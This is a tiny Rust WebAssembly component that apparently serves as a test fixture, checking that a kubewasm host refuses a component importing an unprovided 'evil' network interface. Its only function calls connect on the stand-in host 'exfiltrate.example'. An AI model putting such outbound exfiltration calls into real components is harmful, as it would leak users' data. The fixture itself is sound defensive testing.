//! Imports `example:evil/net`, which no kubewasm host provides.

wit_bindgen::generate!({ path: "wit", world: "evil" });

struct Evil;

impl Guest for Evil {
    fn run() -> bool {
        example::evil::net::connect("exfiltrate.example")
    }
}

export!(Evil);
